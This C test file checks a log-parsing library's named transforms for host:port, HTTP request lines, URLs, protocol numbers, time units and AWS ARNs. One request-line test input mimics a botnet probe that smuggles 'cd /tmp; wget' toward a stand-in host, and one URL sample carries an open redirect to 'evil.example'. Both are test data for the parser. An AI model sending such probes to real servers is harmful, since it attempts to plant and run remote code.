/* ops: every named value transform, looked up by the name a schema uses. */
#include <stdio.h>
#include <string.h>
#include "ops.h"
#include "testlib.h"

static arena_t arena;

/* Apply the op called name to in; returns the output text or "(absent)". */
static const char *apply(const char *name, const char *in)
{
    static char out[8][256];
    static int next;
    char *o = out[next++ % 8];
    int op = op_from_name(name);
    if (op < 0) return "(unknown op)";
    const char *p = in;
    size_t n = strlen(in);
    if (op_apply(op, &p, &n, &arena) < 0) return "(absent)";
    snprintf(o, 256, "%.*s", (int)n, p);
    return o;
}

static void test_names(void)
{
    for (int op = 0; op < OP_COUNT; op++) {
        CHECK_INT(op_from_name(op_name(op)), op);
        CHECK(strcmp(op_name(op), "?") != 0);
    }
    CHECK_INT(op_from_name("no_such_op"), -1);
    CHECK_STR(op_name(-1), "?");
    CHECK_STR(op_name(OP_COUNT), "?");
}

static void test_text(void)
{
    CHECK_STR(apply("lower", "IPv4 ACCEPT"), "ipv4 accept");
    CHECK_STR(apply("upper", "get"), "GET");
    CHECK_STR(apply("lower", ""), "");
    CHECK_STR(apply("trim", "  x y \t"), "x y");
    CHECK_STR(apply("trim", "   "), "(absent)");
    CHECK_STR(apply("basename", "arn:aws:iam::1:role/path/Name"), "Name");
    CHECK_STR(apply("basename", "noslash"), "noslash");
    CHECK_STR(apply("basename", "dir/"), "(absent)");
    CHECK_STR(apply("strip_brackets", "[2001:db8::1]"), "2001:db8::1");
    CHECK_STR(apply("strip_brackets", "[x"), "[x");
    CHECK_STR(apply("strip_brackets", "[]"), "(absent)");
    CHECK_STR(apply("trim_dot", "example.com."), "example.com");
    CHECK_STR(apply("trim_dot", "example.com"), "example.com");
    CHECK_STR(apply("trim_dot", "."), ".");
}

static void test_hostport(void)
{
    CHECK_STR(apply("hostport_host", "192.0.2.1:443"), "192.0.2.1");
    CHECK_STR(apply("hostport_port", "192.0.2.1:443"), "443");
    CHECK_STR(apply("hostport_host", "[2001:db8::1]:8443"), "2001:db8::1");
    CHECK_STR(apply("hostport_port", "[2001:db8::1]:8443"), "8443");
    CHECK_STR(apply("hostport_host", "[2001:db8::1]"), "2001:db8::1");
    CHECK_STR(apply("hostport_port", "[2001:db8::1]"), "(absent)");
    CHECK_STR(apply("hostport_port", "[2001:db8::1]:"), "(absent)");
    CHECK_STR(apply("hostport_host", "2001:db8::1"), "2001:db8::1");   /* bare IPv6: no port */
    CHECK_STR(apply("hostport_port", "2001:db8::1"), "(absent)");
    CHECK_STR(apply("hostport_host", "www.example.com:80"), "www.example.com");
    CHECK_STR(apply("hostport_host", "192.0.2.1"), "192.0.2.1");
    CHECK_STR(apply("hostport_port", "192.0.2.1"), "(absent)");
    CHECK_STR(apply("hostport_port", "192.0.2.1:"), "(absent)");
    CHECK_STR(apply("hostport_host", ":80"), "(absent)");
    CHECK_STR(apply("hostport_host", "[2001:db8::1"), "(absent)");
    CHECK_STR(apply("hostport_host", "[]:80"), "(absent)");
}

static void test_request(void)
{
    const char *r = "GET http://www.example.com:80/path/a.html?x=1&y=2 HTTP/1.1";
    CHECK_STR(apply("request_method", r), "GET");
    CHECK_STR(apply("request_url", r), "http://www.example.com:80/path/a.html?x=1&y=2");
    CHECK_STR(apply("request_version", r), "1.1");
    const char *s3 = "GET /test-s3-ks/?location&aws-account=627959692251 HTTP/1.1";
    CHECK_STR(apply("request_url", s3), "/test-s3-ks/?location&aws-account=627959692251");
    /* A URL with a space in it (ALB logs it raw) and no version. */
    const char *odd = "GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x HTTP/2.0";
    CHECK_STR(apply("request_url", odd), "http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x");
    CHECK_STR(apply("request_version", odd), "2.0");
    CHECK_STR(apply("request_url", "POST /upload"), "/upload");
    CHECK_STR(apply("request_version", "POST /upload"), "(absent)");
    CHECK_STR(apply("request_version", "GET / HTTP/"), "(absent)");
    /* ALB writes "- - -" for requests it could not parse. */
    CHECK_STR(apply("request_method", "- - -"), "(absent)");
    CHECK_STR(apply("request_url", "- - -"), "(absent)");
    CHECK_STR(apply("request_version", "- - -"), "(absent)");
    CHECK_STR(apply("request_method", "- - - "), "(absent)");
    CHECK_STR(apply("request_url", "- - - "), "(absent)");
    CHECK_STR(apply("request_version", "GET / HTTP/1.0 "), "1.0");
    CHECK_STR(apply("request_method", "GET"), "(absent)");
}

static void test_url(void)
{
    const char *u = "https://user:pw@www.example.com:8443/a/b.php?q=1&r=%20#frag";
    CHECK_STR(apply("url_scheme", u), "https");
    CHECK_STR(apply("url_domain", u), "www.example.com");
    CHECK_STR(apply("url_port", u), "8443");
    CHECK_STR(apply("url_path", u), "/a/b.php");
    CHECK_STR(apply("url_query", u), "q=1&r=%20");
    CHECK_STR(apply("url_domain", "http://[2001:db8::1]:8080/x"), "2001:db8::1");
    CHECK_STR(apply("url_port", "http://[2001:db8::1]:8080/x"), "8080");
    CHECK_STR(apply("url_domain", "http://example.com"), "example.com");
    CHECK_STR(apply("url_port", "http://example.com"), "(absent)");
    CHECK_STR(apply("url_path", "http://example.com"), "(absent)");
    CHECK_STR(apply("url_domain", "http://example.com?x=1"), "example.com");
    CHECK_STR(apply("url_query", "http://example.com?x=1"), "x=1");
    CHECK_STR(apply("url_path", "/index.html"), "/index.html");
    CHECK_STR(apply("url_query", "/index.html"), "(absent)");
    CHECK_STR(apply("url_scheme", "/index.html"), "(absent)");
    CHECK_STR(apply("url_query", "/index.html?"), "(absent)");
    /* "://" inside the query is not a scheme separator. */
    const char *redir = "/login?next=https://evil.example/x";
    CHECK_STR(apply("url_scheme", redir), "(absent)");
    CHECK_STR(apply("url_domain", redir), "(absent)");
    CHECK_STR(apply("url_path", redir), "/login");
    CHECK_STR(apply("url_query", redir), "next=https://evil.example/x");
    CHECK_STR(apply("url_scheme", "1http://x/"), "(absent)");
    CHECK_STR(apply("url_scheme", "svn+ssh://host/repo"), "svn+ssh");
    CHECK_STR(apply("url_decode", "a%20b%2Fc%zz%4"), "a b/c%zz%4");
    CHECK_STR(apply("url_decode", "%41%42%43"), "ABC");
    CHECK_STR(apply("url_decode", "%2520"), "%20");        /* one pass, as the original system */
    CHECK_STR(apply("url_decode", "plain+text"), "plain+text");
    CHECK_STR(apply("url_decode", "%"), "%");
    const char *p = "%00";
    size_t n = 3;
    CHECK(op_apply(OP_URL_DECODE, &p, &n, &arena) == 0 && n == 1 && p[0] == 0);
}

static void test_numbers(void)
{
    CHECK_STR(apply("iana_protocol", "6"), "tcp");
    CHECK_STR(apply("iana_protocol", "17"), "udp");
    CHECK_STR(apply("iana_protocol", "1"), "icmp");
    CHECK_STR(apply("iana_protocol", "58"), "ipv6-icmp");
    CHECK_STR(apply("iana_protocol", "0"), "hopopt");
    CHECK_STR(apply("iana_protocol", "132"), "sctp");
    CHECK_STR(apply("iana_protocol", "3"), "(absent)");       /* unassigned in the table */
    CHECK_STR(apply("iana_protocol", "255"), "(absent)");
    CHECK_STR(apply("iana_protocol", "-1"), "(absent)");
    CHECK_STR(apply("iana_protocol", "tcp"), "(absent)");
    CHECK_STR(apply("iana_protocol", "6x"), "(absent)");
    CHECK_STR(apply("iana_protocol", ""), "(absent)");
    CHECK_STR(apply("seconds_to_ns", "0.001"), "1000000");
    CHECK_STR(apply("seconds_to_ns", "1.5"), "1500000000");
    CHECK_STR(apply("seconds_to_ns", "0"), "0");
    CHECK_STR(apply("seconds_to_ns", "-1"), "(absent)");     /* ALB: no value */
    CHECK_STR(apply("seconds_to_ns", "1e300"), "(absent)");  /* would overflow a long */
    CHECK_STR(apply("seconds_to_ns", "nan"), "(absent)");
    CHECK_STR(apply("seconds_to_ns", "abc"), "(absent)");
    CHECK_STR(apply("seconds_to_ns", "-"), "(absent)");
    CHECK_STR(apply("ms_to_ns", "17"), "17000000");
    CHECK_STR(apply("ms_to_ns", "0.5"), "500000");
    CHECK_STR(apply("us_to_ns", "250"), "250000");
    CHECK_STR(apply("integer", "8.0"), "8");
    CHECK_STR(apply("integer", "-2.9"), "-2");
    CHECK_STR(apply("integer", "42"), "42");
    CHECK_STR(apply("integer", "x"), "(absent)");
    CHECK_STR(apply("integer", "1e19"), "(absent)");
    CHECK_STR(apply("http_outcome", "200"), "success");
    CHECK_STR(apply("http_outcome", "101"), "success");
    CHECK_STR(apply("http_outcome", "302"), "success");
    CHECK_STR(apply("http_outcome", "404"), "failure");
    CHECK_STR(apply("http_outcome", "503"), "failure");
    CHECK_STR(apply("http_outcome", "-"), "(absent)");
    CHECK_STR(apply("http_outcome", "2000"), "(absent)");
    CHECK_STR(apply("http_outcome", "4xx"), "(absent)");
    CHECK_STR(apply("http_outcome", "000"), "(absent)");
    CHECK_STR(apply("http_outcome", "999"), "(absent)");
}

static void test_arn(void)
{
    const char *tg = "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067";
    CHECK_STR(apply("arn_account", tg), "123456789012");
    CHECK_STR(apply("arn_region", tg), "us-east-2");
    CHECK_STR(apply("arn_account", "arn:aws-us-gov:iam::123456789012:user/alice"), "123456789012");
    CHECK_STR(apply("arn_region", "arn:aws:iam::123456789012:user/alice"), "(absent)");
    CHECK_STR(apply("arn_account", "arn:aws:s3:::bucket"), "(absent)");
    CHECK_STR(apply("arn_account", "arn:aws:s3"), "(absent)");
    CHECK_STR(apply("arn_account", "not-an-arn"), "(absent)");
}

/* op_apply_memo reuses one split for sibling ops on the same value and
 * gives what op_apply gives; after op_memo_clear, the same memory holding
 * other text is split afresh. */
static void test_memo(void)
{
    static const int ops[] = {
        OP_REQUEST_METHOD, OP_REQUEST_URL, OP_REQUEST_VERSION, OP_HOSTPORT_HOST, OP_HOSTPORT_PORT,
        OP_URL_SCHEME, OP_URL_DOMAIN, OP_URL_PORT, OP_URL_PATH, OP_URL_QUERY,
    };
    char buf[96];
    const char *const values[] = { "GET https://h.example:8443/p/q?x=1 HTTP/2.0", "[2001:db8::1]:80", "- - - " };
    struct op_memo m;
    op_memo_clear(&m);
    for (int v = 0; v < 3; v++) {
        snprintf(buf, sizeof buf, "%s", values[v]);      /* the same address every time */
        op_memo_clear(&m);
        for (int round = 0; round < 2; round++) {
            for (size_t k = 0; k < sizeof ops / sizeof ops[0]; k++) {
                const char *p1 = buf, *p2 = buf;
                size_t n1 = strlen(buf), n2 = n1;
                int r1 = op_apply(ops[k], &p1, &n1, &arena);
                int r2 = op_apply_memo(ops[k], &p2, &n2, &arena, &m);
                CHECK_INT(r2, r1);
                CHECK(r1 < 0 || (n1 == n2 && memcmp(p1, p2, n1) == 0));
            }
        }
    }
    /* The url of the request, then parts of that url: two memos at once. */
    snprintf(buf, sizeof buf, "%s", values[0]);
    op_memo_clear(&m);
    const char *p = buf;
    size_t n = strlen(buf);
    CHECK_INT(op_apply_memo(OP_REQUEST_URL, &p, &n, &arena, &m), 0);
    const char *q = p;
    size_t qn = n;
    CHECK_INT(op_apply_memo(OP_URL_DOMAIN, &q, &qn, &arena, &m), 0);
    CHECK(qn == 9 && memcmp(q, "h.example", 9) == 0);
    q = p;
    qn = n;
    CHECK_INT(op_apply_memo(OP_URL_PORT, &q, &qn, &arena, &m), 0);
    CHECK(qn == 4 && memcmp(q, "8443", 4) == 0);
}

int main(void)
{
    arena_init(&arena);
    test_names();
    test_text();
    test_hostport();
    test_request();
    test_url();
    test_numbers();
    test_arn();
    test_memo();
    arena_free(&arena);
    return tl_done();
}
